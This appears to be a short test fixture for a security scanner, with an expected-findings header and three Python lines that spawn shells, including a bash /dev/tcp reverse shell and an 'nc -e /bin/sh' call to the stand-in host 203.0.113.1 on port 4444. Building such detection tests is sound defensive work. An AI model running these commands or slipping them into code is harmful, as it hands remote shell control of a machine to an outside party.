# expect: process-spawn:5 reverse-shell:5 process-spawn:6 reverse-shell:6 process-spawn:7 reverse-shell:7
import os
import subprocess

os.system("bash -c 'bash -i >& /dev/tcp/203.0.113.1/4444 0>&1'")
subprocess.call(["/bin/sh", "-i"])
os.popen("nc -e /bin/sh 203.0.113.1 4444")
